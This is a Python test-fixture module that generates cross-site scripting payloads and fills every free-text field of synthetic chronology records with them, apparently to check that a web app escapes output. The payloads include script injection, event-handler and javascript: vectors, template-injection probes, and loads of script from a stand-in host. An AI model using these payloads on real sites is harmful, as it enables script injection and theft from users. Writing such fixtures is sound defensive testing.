"""Strings that would run as script where a page is put together carelessly, and a chronology that is made of them.

Each calls ``xss()``, or asks for something at ``stranger.invalid``; a test defines the one and listens for the other.
"""

from __future__ import annotations

import json

# What ends the place in which a text stands: an element, an attribute, raw text, a comment, a string of JSON …
_BREAKS = (
    "", '">', "'>", "</title></style></textarea></noscript>", "</script>", "-->", "]]>", "*", '\\"}]', "\u2028&lt;/p&gt;",
)  # fmt: skip
_RUNS = (
    "<script>xss()</script>",
    '<script src="//stranger.invalid/x.js"></script>',
    "<img src=x onerror=xss()>",
    "<svg onload=xss()>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    '<iframe src="javascript:parent.xss()"></iframe>',
    "<details open ontoggle=xss()>x</details>",
    "<input autofocus onfocus=xss()>",
    '<meta http-equiv="refresh" content="0;url=javascript:xss()">',
    '<base href="//stranger.invalid/">',
    "<style>@import '//stranger.invalid/x.css';</style>",
    '" onmouseover=xss() onfocus=xss() autofocus tabindex=0 x="',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss()&gt;">',
    "[x](javascript:xss()) <javascript:xss()> ![x](//stranger.invalid/x.png)",
)
_OTHERS = (
    "javascript:xss()",
    "jav\tascript:xss()",
    " \x01javascript:xss()",
    "data:text/html,<script>parent.xss()</script>",
    "//stranger.invalid/x.js",
    "https://example.org/\"onmouseover='xss()'",
    "https://example.org/<script>xss()</script>",
    "{{ 7*7 }}{% for x in y %}{{ xss() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${xss()}`+xss()+`",
    "</main><form action=//stranger.invalid/><button>x</button></form>",
    "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
    "<!--[if gte IE 4]><script>xss()</script><![endif]-->",
    "\ue000main\ue001\ue000title\ue001<script>xss()</script>",
    "\u202e\u2066<script>xss()</script>",
    "<a id=filters><a id=search name=root href=javascript:xss()>clobbered</a>",
    "__proto__",
    "*<b onclick=xss()>*_<i>_",
    "+ADw-script+AD4-xss()+ADw-/script+AD4-",
    "<scr\x00ipt>xss()</scr\x00ipt>".replace("\x00", "\u200b"),
)
PAYLOADS = tuple(break_ + run for break_ in _BREAKS for run in _RUNS) + _OTHERS


def write_hostile_records(payloads: tuple[str, ...]) -> tuple[str, str, str]:
    """Events, sources and actors as YAML: for each payload one of each, with it in every field that holds free text.

    Ids are no free text: the store takes nothing but letters, digits and hyphens for one.
    """
    events = [_write_event(n, text) for n, text in enumerate(payloads)]
    sources = [
        {
            "id": f"s{n}", "title": text, "outlet": text, "author": text, "published": _day(n), "published_from": text,
            "url": f"https://example.org/{n}?{_mend(text)}", "archived": text, "language": text, "notes": text,
        }
        for n, text in enumerate(payloads)
    ]  # fmt: skip
    actors = [
        {"id": f"a{n}", "name": f"{n} {text}", "aliases": [f"by {n} {text}"], "description": text, "notes": text}
        for n, text in enumerate(payloads)
    ]
    return json.dumps(events), json.dumps(sources), json.dumps(actors)


def _mend(text: str) -> str:
    """Without what no web address may hold, so that the rest reaches the page."""
    return "".join(c for c in text if c.isprintable() and c != " ")


def _write_event(n: int, text: str) -> dict[str, object]:
    evidence = [{"source": f"s{n}", "quote": text, "prefix": text, "suffix": text}]
    said = {"says": text, "facet": text, "made": _day(n), "evidence": evidence, "notes": text}
    claims = [
        {"id": "a", "claimant": f"by {n} {text}", "via": text, "when": _day(n), **said},
        {"id": "b", "claimant": text, "stance": "denies", "counters": "a", "when": _day(n + 1), **said},
        {"id": "c", "via": text, "retracted": _day(n + 2), **said},
    ]
    return {
        "id": f"e{n}", "title": text, "place": {"name": f"{n} {text}"}, "actors": [f"a{n}"], "topics": [f"{n} {text}", text],
        "summary": text + text, "because": [text, f"{text}: from 2031-01-01"], "evidence": evidence, "claims": claims,
        "relations": [{"before": f"e{max(n - 1, 0)}", "by": text, "evidence": evidence}] if n else [],
        "notes": text, "extra": {"more": text}, **({"when": _day(n)} if n % 9 else {"unresolved": text}),
    }  # fmt: skip


def _day(n: int) -> str:
    return f"2031-{n // 28 % 12 + 1:02}-{n % 28 + 1:02}"
